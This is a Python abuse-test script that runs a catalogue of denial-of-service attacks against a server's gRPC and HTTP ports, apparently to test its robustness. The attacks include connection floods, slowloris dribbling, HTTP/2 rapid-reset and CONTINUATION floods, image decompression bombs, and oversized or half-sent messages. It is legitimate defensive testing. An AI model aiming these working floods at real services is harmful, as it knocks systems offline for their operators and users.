#!/usr/bin/python3
"""What one client may do to take the server away from others. Each attack goes on until it is ended:

    tests/abuse/attacks.py NAME GRPC HTTP            such as 127.0.0.1:50051 127.0.0.1:8080; writes "ready" when it is under way
    tests/abuse/attacks.py all GRPC HTTP [SECONDS]   each in turn for so long (5), again and again; writes a line for each under way
    tests/abuse/attacks.py list
"""

import multiprocessing
import resource
import signal
import socket
import sys
import time

import grpc

import http2
import messages
import pictures

MIB = 1 << 20


class Target:
    def __init__(self, grpc_address, http_address):
        self.grpc = grpc_address
        self.http = http_address

    def channel(self):
        options = [
            ("grpc.max_send_message_length", -1),
            ("grpc.use_local_subchannel_pool", 1),
            ("grpc.enable_retries", 0),
        ]
        return grpc.insecure_channel(self.grpc, options)

    def connect(self, address, source="127.0.0.1"):
        host, port = address.rsplit(":", 1)
        return socket.create_connection((host, int(port)), timeout=5, source_address=(source, 0))

    def connect_http(self):
        return self.connect(self.http)

    def connect_many(self, address, sources):
        """1,100 connections, or as many as can be had."""
        connections = []
        for i in range(1100):
            try:
                connections.append(self.connect(address, f"127.0.0.{1 + i % sources}"))
            except OSError:
                break
        return connections


def send_all(connection, data):
    """False once the server has closed."""
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


def start_calls(channel, method, request, count, timeout=None):
    call = channel.unary_unary(method)
    return [call.future(request, timeout=timeout) for _ in range(count)]


def end_calls(calls):
    for call in calls:
        call.cancel()


# An attack is a generator: it yields when it is under way, and is begun anew when it ends.

# The gRPC port: connections.


def _flood_and_close(target, sources):
    connections = target.connect_many(target.grpc, sources)
    yield
    time.sleep(2)
    for connection in connections:
        connection.close()


def connect_flood(target):
    """1,100 TCP connections that say nothing, closed after two seconds."""
    yield from _flood_and_close(target, 1)


def connect_flood_apart(target):
    """The same from 50 addresses."""
    yield from _flood_and_close(target, 50)


def dribbled_handshakes(target):
    """HTTP/2's preface, byte by byte, on 100 connections."""
    connections = [target.connect(target.grpc) for _ in range(100)]
    yield
    for byte in http2.PREFACE:
        for connection in connections:
            send_all(connection, bytes([byte]))
        time.sleep(0.5)


def _flood_frames(target, begin, more):
    """On one connection whose answers are not read, until the server ends it."""
    connection = target.connect(target.grpc)
    connection.settimeout(2)
    send_all(connection, http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0) + begin)
    yield
    while send_all(connection, more):
        pass
    connection.close()


def endless_headers(target):
    """Headers of one call, 4 KiB each, without end."""
    begin = http2.frame(http2.HEADERS, 0, 1, http2.call_headers(messages.GENERATE))
    yield from _flood_frames(target, begin, http2.frame(http2.CONTINUATION, 0, 1, http2.header("x-a", "y" * 120) * 120) * 8)


def unknown_frames(target):
    """Frames of a type that there is not."""
    yield from _flood_frames(target, b"", http2.frame(0x42, 0, 0, b"x" * 16000) * 8)


def _reset_calls(target, path):
    connection = target.connect(target.grpc)
    connection.settimeout(0.01)
    send_all(connection, http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
    yield
    headers = http2.call_headers(path)
    stream = 1
    while True:
        burst = b""
        for _ in range(100):
            burst += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
            burst += http2.frame(http2.DATA, 1, stream, b"\0\0\0\0\0")
            burst += http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL)
            stream += 2
        try:
            connection.settimeout(2)
            connection.sendall(burst)
            connection.settimeout(0.001)
            if not connection.recv(1 << 20):
                break
        except TimeoutError:
            continue
        except OSError:
            break
    connection.close()


def reset_calls(target):
    """Calls that are reset as soon as they are opened."""
    yield from _reset_calls(target, messages.STREAM_GENERATE)


# Preparing: work that a small request asks for.


def _pictures_then_gone(target, picture):
    request = messages.request(messages.image_part(picture) * 16 + messages.text_part("What is this?"), 8)
    with target.channel() as channel:
        calls = start_calls(channel, messages.STREAM_GENERATE, request, 1)
        yield
        time.sleep(1)
        end_calls(calls)


def webp_bombs(target):
    """16 WebP files of 30 bytes and 8192² pixels each, their client gone after a second."""
    yield from _pictures_then_gone(target, pictures.solid_webp(8192, 8192))


def jpeg_scans(target):
    """16 JPEG files of 64 scans and 8000² pixels each, their client gone after a second."""
    yield from _pictures_then_gone(target, pictures.jpeg_of_scans(8000, 8000))


def unfit_pictures(target):
    """Four large pictures and far more tokens than can ever fit."""
    request = messages.request(messages.image_part(pictures.jpeg_of_scans(4000, 4000)) * 4, 1 << 30)
    with target.channel() as channel:
        calls = start_calls(channel, messages.STREAM_GENERATE, request, 4, timeout=5)
        yield
        for call in calls:
            call.exception()


# Memory.


def empty_parts(target):
    """64 MiB of empty text parts: 16 million of them."""
    request = messages.request(messages.field(2, b"") * (16 * MIB - 64), 1)
    with target.channel() as channel:
        calls = start_calls(channel, messages.GENERATE, request, 1)
        yield
        calls[0].exception()
    time.sleep(0.2)


def _half_messages(target, streams_of_each):
    connections = [http2.Connection(target.grpc) for _ in range(16 // streams_of_each)]
    for connection in connections:
        for _ in range(streams_of_each):
            connection.send_message_part(connection.open(messages.GENERATE), 63 * MIB, 48 * MIB, patience=0.5)
    yield
    time.sleep(5)


def half_messages(target):
    """48 of 63 MiB of a message on 16 streams of four connections, then silence."""
    yield from _half_messages(target, 4)


def half_messages_apart(target):
    """The same on 16 connections."""
    yield from _half_messages(target, 1)


def cancelled_uploads(target):
    """20 requests of 57 MiB, cancelled while a picture that takes long is decoded."""
    slow = messages.request(messages.image_part(pictures.jpeg_of_scans(8000, 8000)) * 16, 8)
    large = messages.request(messages.text_part("x" * (57 * MIB)), 8)
    with target.channel() as channel:
        calls = start_calls(channel, messages.STREAM_GENERATE, slow, 1)
        yield
        for _ in range(20):
            upload = start_calls(channel, messages.GENERATE, large, 1, timeout=1)
            upload[0].exception()
        end_calls(calls)


def count_tokens(target):
    """CountTokens of 30 MiB, eight at a time."""
    request = messages.request(messages.text_part("word " * (6 * MIB)))
    with target.channel() as channel:
        calls = start_calls(channel, messages.COUNT_TOKENS, request, 8, timeout=8)
        yield
        for call in calls:
            call.exception()


# The HTTP port.


def _flood_http(target, begin, more):
    connection = target.connect_http()
    send_all(connection, begin)
    yield
    for _ in range(100 * MIB // len(more)):
        if not send_all(connection, more):
            break
    connection.close()


GET = b"GET /metrics HTTP/1.1\r\nHost: test\r\n"
BLOCK = b"x" * 65536


def http_endless_headers(target):
    """Headers without end, 100 MiB a connection."""
    yield from _flood_http(target, GET, (b"X-Header: " + b"x" * 4000 + b"\r\n") * 16)


def http_many_headers(target):
    """100,000 headers."""
    yield from _flood_http(target, GET + b"a: b\r\n" * 100_000 + b"\r\n", GET + b"\r\n")


def http_chunked_body(target):
    """A chunked body without end, 100 MiB a connection."""
    begin = b"POST /metrics HTTP/1.1\r\nHost: test\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield from _flood_http(target, begin, b"10000\r\n" + BLOCK + b"\r\n")


def http_request_line(target):
    """A request line of 100 MiB."""
    yield from _flood_http(target, b"GET /", BLOCK)


def http_ranges(target):
    """A Range of as many ranges as a head may hold, in a pipeline that nobody reads."""
    request = GET + b"Range: bytes=0-" + b",0-" * 2000 + b"\r\n\r\n"
    yield from _flood_http(target, request, request)


def http_dribblers(target):
    """40 connections that send a byte of a request each half second."""
    connections = [target.connect_http() for _ in range(40)]
    yield
    for byte in GET[:20]:
        for connection in connections:
            send_all(connection, bytes([byte]))
        time.sleep(0.5)


def http_idle(target):
    """1,100 connections from 50 addresses that say nothing."""
    connections = target.connect_many(target.http, 50)
    yield
    time.sleep(5)
    for connection in connections:
        connection.close()


def http_unread_metrics(target):
    """60 connections that ask for /metrics again and again and read nothing."""
    connections = [target.connect_http() for _ in range(60)]
    for connection in connections:
        connection.settimeout(0.01)
        send_all(connection, (GET + b"\r\n") * 500)
    yield
    time.sleep(5)


def http_polling(target):
    """/metrics, as often as it is answered."""
    connections = [target.connect_http() for _ in range(8)]
    yield
    for _ in range(500):
        for connection in connections:
            send_all(connection, GET + b"\r\n")
        for connection in connections:
            try:
                connection.recv(1 << 20)
            except OSError:
                return


# Calls that come to nothing.


def malformed_messages(target):
    """Bytes that are no message, text that is not UTF-8, and messages larger than what is taken."""
    broken = b"\x12\xff\xff\xff\xff\x0fnonsense"
    not_text = messages.request(messages.text_part(b"\xc3\x28"), 1)
    too_large = messages.request(messages.text_part("x" * (65 * MIB)), 1)
    with target.channel() as channel:
        yield
        for i in range(200):
            request = too_large if i % 50 == 0 else (broken, not_text)[i % 2]
            start_calls(channel, messages.GENERATE, request, 1, timeout=5)[0].exception()


def mid_stream_cancels(target):
    """Long answers, cancelled after their first message, 16 at a time."""
    request = messages.request(messages.text_part("Tell me about the picture."), 200)
    with target.channel() as channel:
        stream = channel.unary_stream(messages.STREAM_GENERATE)
        yield
        for _ in range(20):
            calls = [stream(request, timeout=5) for _ in range(16)]
            for call in calls:
                try:
                    next(call)
                except (grpc.RpcError, StopIteration):
                    pass
                call.cancel()


ATTACKS = {
    attack.__name__: attack
    for attack in (
        webp_bombs,
        jpeg_scans,
        unfit_pictures,
        cancelled_uploads,
        empty_parts,
        half_messages,
        half_messages_apart,
        count_tokens,
        malformed_messages,
        mid_stream_cancels,
        http_endless_headers,
        http_many_headers,
        http_chunked_body,
        http_request_line,
        http_ranges,
        http_dribblers,
        http_idle,
        http_unread_metrics,
        http_polling,
        dribbled_handshakes,
        endless_headers,
        unknown_frames,
        reset_calls,
        connect_flood,
        connect_flood_apart,
    )
}


def keep_on(name, target, under_way):
    """Never returns; calls `under_way` once the first round is begun. What the server does to an attacker, such as closing its connection, is no
    error of ours."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    told = False
    while True:
        try:
            for _ in ATTACKS[name](target):
                if not told:
                    under_way()
                    told = True
        except (OSError, grpc.RpcError) as error:
            print(f"{name}: {error}", file=sys.stderr)
            time.sleep(0.1)


def say_ready():
    print("ready", flush=True)


def keep_on_set(name, target, event):
    keep_on(name, target, event.set)


def keep_on_all(target, seconds):
    """Each attack has `seconds` from when it is under way: on a busy machine it may take longer than that to begin."""
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))  # which ends the attack under way, too
    spawn = multiprocessing.get_context("spawn")
    while True:
        for name in ATTACKS:
            event = spawn.Event()
            attack = spawn.Process(target=keep_on_set, args=(name, target, event), daemon=True)
            attack.start()
            if event.wait(60):
                print(f"{name}: under way", flush=True)
                time.sleep(seconds)
            attack.kill()
            attack.join()


def main():
    if sys.argv[1:] == ["list"]:
        for name, attack in ATTACKS.items():
            print(f"{name}: {attack.__doc__}")
        return 0
    if len(sys.argv) < 4 or sys.argv[1] not in (*ATTACKS, "all"):
        print(__doc__, file=sys.stderr)
        return 2
    target = Target(*sys.argv[2:4])
    if sys.argv[1] == "all":
        keep_on_all(target, float(sys.argv[4]) if len(sys.argv) > 4 else 5.0)
    keep_on(sys.argv[1], target, say_ready)
    return 0


if __name__ == "__main__":
    sys.exit(main())
